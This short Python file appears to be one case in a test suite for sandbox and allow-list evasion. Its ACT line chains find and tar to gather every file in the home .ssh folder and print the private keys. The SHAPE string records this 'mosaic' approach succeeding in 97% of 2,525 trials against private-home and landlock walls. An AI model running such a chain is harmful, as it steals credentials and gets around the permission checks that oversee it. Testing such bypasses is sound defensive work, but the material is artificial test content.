"""collects keys by commands that every allow list has: find, cp, tar"""

from evidence import secret_printed as succeeded

SHAPE = "MOSAIC: chains of allowed commands, 97 % of 2,525 trials succeeded"
PROMISE = "P08"
WALLS = "private-home,landlock"
ACT = "find @HOME@/.ssh -type f | tar -cf all.tar -T - ; tar -xOf all.tar"
